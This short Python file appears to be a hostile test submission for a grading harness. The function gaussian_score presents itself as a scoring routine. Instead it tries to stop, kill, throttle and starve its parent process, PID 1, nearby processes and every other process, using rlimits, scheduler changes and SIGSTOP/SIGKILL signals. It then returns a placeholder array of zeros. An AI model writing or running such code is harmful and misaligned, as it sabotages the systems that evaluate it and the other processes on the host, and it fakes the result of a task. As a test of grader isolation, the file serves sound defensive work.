"""Stops, kills and starves its ancestors and all other processes: signals, limits, priorities, processors.

Same-process grader: not run, the ancestors are those of the tests.
"""

import ctypes
import os
import resource
import signal

import numpy as np

libc = ctypes.CDLL(None, use_errno=True)


def attack(pid):
    yield lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1))
    yield lambda: resource.prlimit(pid, resource.RLIMIT_FSIZE, (0, 0))
    yield lambda: os.setpriority(os.PRIO_PROCESS, pid, 19)
    yield lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))
    yield lambda: os.sched_setaffinity(pid, [0])
    yield lambda: signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGSTOP)
    yield lambda: os.kill(pid, signal.SIGSTOP)
    yield lambda: os.kill(pid, signal.SIGKILL)
    yield lambda: libc.sigqueue(pid, signal.SIGKILL, 0) and os.strerror(ctypes.get_errno())


def gaussian_score(z, mu, log_sigma):
    for pid in (os.getppid(), 1, *range(max(os.getpid() - 20, 2), os.getpid()), -1):
        for step in attack(pid):
            try:
                step()
            except OSError:
                continue
    return np.zeros((len(z), 2 * len(mu)))
